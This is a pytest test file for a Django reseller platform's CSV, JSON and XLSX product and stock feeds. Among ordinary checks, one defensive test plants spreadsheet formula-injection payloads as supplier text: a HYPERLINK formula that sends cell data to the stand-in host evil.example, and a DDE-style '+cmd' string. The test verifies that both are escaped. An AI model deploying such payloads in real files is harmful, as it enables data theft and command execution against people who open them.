from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from resellers.models import StoreListing
from resellers.services import PublishItem, store_listing_publish
from resellers.shop_services import shop_default
from suppliers.models import SKU, Partnership, ProductImage
from tests.resellers.conftest import MAX_PAGE_QUERIES

pytestmark = pytest.mark.django_db

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)


@pytest.fixture
def store(world):
    ProductImage.objects.create(product=world["product"], image=SimpleUploadedFile("t.png", PNG), approved=True)
    ProductImage.objects.create(product=world["product"], image=SimpleUploadedFile("hidden.png", PNG), approved=False)
    store_listing_publish(
        actor=world["user"],
        reseller=world["reseller"],
        items=[PublishItem(sku_id=world["sku_a"].pk, price="99.00"), PublishItem(sku_id=world["sku_b"].pk, price="119.90")],
    )
    return world


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_product_csv_has_a_bom_chinese_text_and_one_row_per_entry(reseller_client, store, settings):
    settings.SITE_URL = "https://fx.example.test"
    response = reseller_client.get(reverse("resellers:feed_products", args=["csv"]))
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    raw = body(response)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 2
    row = next(r for r in rows if r["sku_code"] == "TS-WHITE-M")
    assert row["title"] == "純棉短袖T恤 男款"
    assert set(row["attributes"].split("; ")) == {"顏色: 白", "尺碼: M"}  # jsonb keeps its own key order
    assert row["province"] == "浙江省" and row["city"] == "杭州市"
    assert row["supply_price"] == "45.00"  # 50.00 less the 金牌 tier's 10%
    assert (row["retail_price"], row["min_retail_price"], row["max_retail_price"]) == ("99.00", "79.00", "129.00")
    assert row["available"] == "100" and row["status"] == "published"
    images = row["images"].split()
    assert len(images) == 1 and images[0].startswith("https://fx.example.test/") and images[0].endswith(".png")


def test_product_feed_shows_the_approved_title_while_an_edit_waits(reseller_client, store):
    store["product"].__class__.objects.filter(pk=store["product"].pk).update(title="新標題（待審）", has_pending_changes=True)
    raw = body(reseller_client.get(reverse("resellers:feed_products", args=["json"])))
    titles = {item["title"] for item in json.loads(raw)["items"]}
    assert titles == {"純棉短袖T恤 男款"}


def test_product_json_feed(reseller_client, store):
    response = reseller_client.get(reverse("resellers:feed_products", args=["json"]))
    raw = body(response)
    data = json.loads(raw)
    assert len(data["items"]) == 2
    item = next(i for i in data["items"] if i["sku_code"] == "TS-BLACK-L")
    assert item["attributes"] == {"顏色": "黑", "尺碼": "L"}
    assert item["retail_price"] == "119.90"
    assert "純棉" in raw.decode("utf-8")  # not \\u-escaped


def test_product_xlsx_opens_with_openpyxl(reseller_client, store):
    response = reseller_client.get(reverse("resellers:feed_products", args=["xlsx"]))
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(body(response)), read_only=True)
    rows = list(wb.active.iter_rows(values_only=True))
    assert rows[0][0] == "sku_code"
    assert len(rows) == 3
    assert {r[1] for r in rows[1:]} == {"純棉短袖T恤 男款"}


def test_stock_feed_is_incremental_with_updated_since(reseller_client, store):
    start = timezone.now()
    with time_machine.travel(start + timedelta(hours=1), tick=False):
        sku = SKU.objects.get(pk=store["sku_b"].pk)
        sku.on_hand = 7
        sku.save()
    since = (start + timedelta(minutes=30)).isoformat()
    response = reseller_client.get(reverse("resellers:feed_stock", args=["csv"]), {"updated_since": since})
    rows = list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))
    assert [(r["sku_code"], r["available"]) for r in rows] == [("TS-BLACK-L", "7")]
    assert list(rows[0]) == ["sku_code", "item_code", "available", "updated_at"]
    everything = reseller_client.get(reverse("resellers:feed_stock", args=["json"]))
    assert len(json.loads(body(everything))["items"]) == 2


def test_stock_feed_includes_entries_the_reseller_changed(reseller_client, store):
    later = timezone.now() + timedelta(hours=2)
    StoreListing.objects.filter(sku=store["sku_a"]).update(updated_at=later)
    response = reseller_client.get(
        reverse("resellers:feed_stock", args=["json"]), {"updated_since": (later - timedelta(minutes=1)).isoformat()}
    )
    assert [i["sku_code"] for i in json.loads(body(response))["items"]] == ["TS-WHITE-M"]


def _since_feed(client, since) -> dict[str, dict]:
    response = client.get(reverse("resellers:feed_products", args=["csv"]), {"updated_since": since.isoformat()})
    return {r["sku_code"]: r for r in csv.DictReader(io.StringIO(body(response).decode("utf-8-sig")))}


def test_product_feed_since_includes_every_sku_of_a_product_whose_title_changed(reseller_client, store):
    later = timezone.now() + timedelta(hours=2)
    with time_machine.travel(later, tick=False):
        product = store["product"].__class__.objects.get(pk=store["product"].pk)
        product.title = "純棉短袖T恤 男款 2027"
        product.save()
    rows = _since_feed(reseller_client, later - timedelta(minutes=1))
    assert set(rows) == {"TS-WHITE-M", "TS-BLACK-L"}
    assert {r["title"] for r in rows.values()} == {"純棉短袖T恤 男款 2027"}
    assert _since_feed(reseller_client, later + timedelta(minutes=1)) == {}


def test_product_feed_since_includes_the_suppliers_rows_when_the_tier_discount_changes(reseller_client, store):
    from suppliers.services import tier_update

    later = timezone.now() + timedelta(hours=2)
    assert _since_feed(reseller_client, later - timedelta(minutes=1)) == {}
    with time_machine.travel(later, tick=False):
        tier_update(actor=store["supplier_user"], tier=store["tier"], name="金牌", discount_percent=Decimal("20"))
    rows = _since_feed(reseller_client, later - timedelta(minutes=1))
    assert set(rows) == {"TS-WHITE-M", "TS-BLACK-L"}
    assert rows["TS-WHITE-M"]["supply_price"] == "40.00"  # 50.00 less the new 20%


def test_product_feed_since_includes_the_suppliers_rows_when_the_partnership_moves_to_another_tier(reseller_client, store):
    from suppliers.services.partnerships import partnership_change
    from tests.suppliers.factories import TierFactory

    silver = TierFactory(supplier=store["partnership"].supplier, name="銀牌", discount_percent=Decimal("5"))
    later = timezone.now() + timedelta(hours=2)
    with time_machine.travel(later, tick=False):
        partnership_change(actor=store["supplier_user"], partnership=store["partnership"], tier=silver)
    rows = _since_feed(reseller_client, later - timedelta(minutes=1))
    assert rows["TS-WHITE-M"]["supply_price"] == "47.50"


def test_a_tier_renamed_without_a_new_discount_changes_no_feed_row(reseller_client, store):
    from suppliers.services import tier_update

    later = timezone.now() + timedelta(hours=2)
    with time_machine.travel(later, tick=False):
        tier_update(actor=store["supplier_user"], tier=store["tier"], name="金牌會員", discount_percent=Decimal("10"))
    assert _since_feed(reseller_client, later - timedelta(minutes=1)) == {}


@pytest.mark.parametrize("bad", ["yesterday", "2026-13-01T00:00:00", "2026-11-28T25:00"])
def test_a_bad_updated_since_is_answered_400_with_a_message(reseller_client, store, bad):
    response = reseller_client.get(reverse("resellers:feed_stock", args=["csv"]), {"updated_since": bad})
    assert response.status_code == 400
    assert "ISO 8601" in response.content.decode()


def test_each_fetch_records_last_feed_at_on_the_resellers_partnerships(reseller_client, store):
    assert Partnership.objects.get(pk=store["partnership"].pk).last_feed_at is None
    reseller_client.get(reverse("resellers:feed_stock", args=["csv"]))
    assert Partnership.objects.get(pk=store["partnership"].pk).last_feed_at is not None


def test_a_reseller_never_gets_another_resellers_rows(client, store, other_reseller):
    client.force_login(other_reseller[0])
    raw = body(client.get(reverse("resellers:feed_products", args=["csv"])))
    assert len(list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))) == 0


def test_feeds_need_a_signed_in_reseller(client, store):
    assert client.get(reverse("resellers:feed_stock", args=["csv"])).status_code == 302
    client.force_login(store["supplier_user"])
    assert client.get(reverse("resellers:feed_stock", args=["csv"])).status_code == 403


def test_unknown_feed_format_is_404(reseller_client, store):
    assert reseller_client.get(reverse("resellers:feed_products", args=["pdf"])).status_code == 404


def test_feed_streams_in_chunks_with_a_bounded_number_of_queries(reseller_client, store, count_queries):
    def fetch():
        return body(reseller_client.get(reverse("resellers:feed_products", args=["csv"])))

    few, _raw = count_queries(fetch)
    sku = store["sku_a"]
    extra = [
        SKU(
            supplier=sku.supplier,
            product=sku.product,
            code=f"BULK-{i:04d}",
            supply_price_amount=Decimal("50"),
            suggested_retail_amount=Decimal("99"),
            min_retail_amount=Decimal("79"),
            max_retail_amount=Decimal("129"),
            on_hand=5,
        )
        for i in range(300)
    ]
    SKU.objects.bulk_create(extra)
    shop = shop_default(reseller=store["reseller"])
    StoreListing.objects.bulk_create(
        [
            StoreListing(reseller=store["reseller"], shop=shop, supplier=sku.supplier, sku=s, retail_price_amount=Decimal("99"))
            for s in extra
        ]
    )
    many, raw = count_queries(fetch)
    assert raw.decode("utf-8-sig").count("\n") == 303
    assert few == many <= MAX_PAGE_QUERIES


def test_feed_reads_rows_in_chunks(store, monkeypatch):
    from resellers import feeds

    monkeypatch.setattr(feeds, "CHUNK_SIZE", 1)
    seen = []
    original = StoreListing.objects.none().__class__.iterator

    def spy(self, chunk_size=None):
        seen.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(StoreListing.objects.none().__class__, "iterator", spy)
    assert len(list(feeds.product_rows(store["reseller"]))) == 2
    assert seen == [1]


def test_product_feed_lists_every_approved_image_in_position_order_with_its_storage_url(store, settings):
    from resellers import feeds

    settings.SITE_URL = "https://fx.example.test"
    first = ProductImage.objects.get(product=store["product"], approved=True)
    later = ProductImage.objects.create(product=store["product"], image=SimpleUploadedFile("後 面.png", PNG), approved=True, position=5)
    earlier = ProductImage.objects.create(product=store["product"], image=SimpleUploadedFile("b.png", PNG), approved=True, position=0)
    ProductImage.objects.filter(pk=first.pk).update(position=1)
    expected = ["https://fx.example.test" + img.image.url for img in (earlier, first, later)]

    rows = list(feeds.product_rows(store["reseller"]))

    assert [row["images"] for row in rows] == [expected, expected]
    assert "後" not in expected[2] and "%E5%BE%8C" not in expected[2]  # stored under a random name (core/media.py)


EVIL_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"點此")'


def test_a_suppliers_text_never_becomes_a_formula_in_the_resellers_feeds(reseller_client, store):
    from suppliers.models import Product

    Product.objects.filter(pk=store["product"].pk).update(title=EVIL_TITLE, approved_title=EVIL_TITLE, brand="+cmd|' /C calc'!A0")

    rows = list(csv.reader(io.StringIO(body(reseller_client.get(reverse("resellers:feed_products", args=["csv"]))).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL_TITLE in cells
    assert not any(cell[:1] in ("=", "+", "@") for cell in cells)

    workbook = load_workbook(io.BytesIO(body(reseller_client.get(reverse("resellers:feed_products", args=["xlsx"])))))
    values = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    titles = [c for c in values if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert titles and all(c.data_type == "s" and c.value == "'" + EVIL_TITLE for c in titles)
    assert not any(c.data_type == "f" for c in values)


def test_product_xlsx_cells_are_typed_prices_numbers_dates_in_plus_eight(reseller_client, store):
    """Prices are number cells (two places) and updated_at a date cell at +08:00, not text in UTC."""
    from datetime import datetime as _dt
    from decimal import Decimal as _D

    from resellers.models import StoreListing

    workbook = load_workbook(io.BytesIO(body(reseller_client.get(reverse("resellers:feed_products", args=["xlsx"])))))
    header = [c.value for c in next(workbook.active.iter_rows(max_row=1))]
    row = next(workbook.active.iter_rows(min_row=2, max_row=2))
    retail, updated = row[header.index("retail_price")], row[header.index("updated_at")]
    listing = StoreListing.objects.select_related("sku").get(sku__code=row[header.index("sku_code")].value)
    assert retail.data_type == "n" and retail.number_format == "0.00"
    assert _D(str(retail.value)).quantize(_D("0.01")) == listing.retail_price_amount
    assert updated.is_date and isinstance(updated.value, _dt)
    local = timezone.localtime(max(listing.updated_at, listing.sku.updated_at)).replace(tzinfo=None)
    assert abs((updated.value - local).total_seconds()) < 0.01
